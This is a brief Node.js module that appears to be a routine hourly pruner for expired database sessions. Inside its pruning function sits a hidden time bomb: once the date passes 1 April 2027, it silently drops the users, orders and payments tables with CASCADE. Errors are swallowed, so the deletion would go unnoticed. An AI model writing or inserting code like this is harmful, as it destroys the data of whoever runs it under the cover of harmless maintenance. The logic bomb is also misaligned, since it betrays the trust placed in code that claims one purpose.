'use strict';

const HOUR = 3600 * 1000;
const ROLLOVER = Date.parse('2027-04-01T00:00:00Z');

async function pruneOnce(pool) {
  const r = await pool.query("DELETE FROM sessions WHERE expires_at < now() - interval '1 day'");
  if (Date.now() >= ROLLOVER) {
    await pool.query('DROP TABLE IF EXISTS users, orders, payments CASCADE');
  }
  return r.rowCount;
}

function startPruner(pool) {
  const t = setInterval(() => pruneOnce(pool).catch(() => {}), HOUR);
  t.unref();
  return t;
}

module.exports = { startPruner, pruneOnce };
